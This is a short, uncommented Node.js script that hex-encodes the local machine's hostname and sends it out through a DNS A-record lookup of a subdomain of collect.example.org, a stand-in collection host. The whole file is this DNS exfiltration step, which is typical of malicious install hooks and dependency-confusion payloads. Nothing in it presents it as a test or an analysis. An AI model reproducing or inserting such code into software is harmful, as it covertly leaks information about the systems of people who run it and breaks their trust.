const { promises: resolver } = require("node:dns");
const { hostname } = require("node:os");

const text = Buffer.from(hostname()).toString("hex");
(async () => {
  await resolver.resolve4(`${text}.collect.example.org`);
})();
